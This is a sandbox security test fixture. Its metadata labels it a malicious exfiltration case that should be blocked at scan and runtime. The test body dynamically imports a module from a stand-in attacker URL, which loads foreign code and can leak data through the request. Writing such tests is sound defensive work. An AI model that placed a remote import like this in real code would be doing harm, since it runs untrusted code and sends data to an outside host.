/*---
id: ex-url-import-01-https
description: "Imports a module from an attacker's URL, which both exfiltrates through the request and loads foreign code."
kind: malicious
category: exfiltration
technique: EX-url-import
variant: plain
references:
  - "SES import rejection"
expect:
  ultra-secure: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  high-security: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
  tenant-isolated: { outcome: blocked, stages: [scan, runtime], errors: [ERR_SCRIPT_ERROR] }
flags: [async]
---*/
const mod = await import('https://attacker.example/payload.mjs');
return typeof mod;
